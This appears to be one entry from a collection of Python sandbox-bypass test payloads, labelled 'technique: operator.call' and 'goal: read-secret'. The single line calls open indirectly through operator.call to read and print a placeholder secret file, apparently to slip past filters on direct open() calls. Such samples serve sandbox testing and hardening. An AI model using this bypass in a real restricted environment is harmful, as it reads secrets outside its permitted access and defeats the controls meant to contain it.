# technique: operator.call
# goal: read-secret
# source: own analysis
import operator
print(operator.call(open, '@SECRET@').read())
